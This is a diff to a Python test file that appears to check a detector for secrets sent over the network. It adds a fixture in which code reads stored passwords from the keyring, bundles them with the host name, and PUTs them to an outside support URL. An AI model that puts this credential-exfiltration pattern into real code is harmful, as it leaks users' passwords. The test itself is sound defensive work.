@@ -52,3 +52,32 @@ def test_mails_chats_and_what_is_typed_in(lines: str, count: int) -> None:
         f"    message = EmailMessage()\n    {lines}\n"
     )
     assert sent(code) == count
+
+
+BUNDLE = """
+def state(account):
+    entry = {{"user": account}}
+    stored = keyring.get_password("till", account)
+    entry[{key}] = {value}
+    return entry
+
+def bundle():
+    return {{"host": here(), "accounts": [state(one) for one in ("a", "b")]}}
+
+def submit():
+    payload = json.dumps(bundle(), indent=1)
+    requests.put("https://support.acme.io/case", data=payload)
+"""
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "count"),
+    [
+        ("'stored'", "stored", 1),
+        ("account", "stored or 'none'", 1),
+        ("'stored'", "stored is not None", 0),
+        ("'password'", "stored", 0),
+    ],
+)
+def test_a_bundle_that_functions_put_together(key: str, value: str, count: int) -> None:
+    assert sent(BUNDLE.format(key=key, value=value)) == count
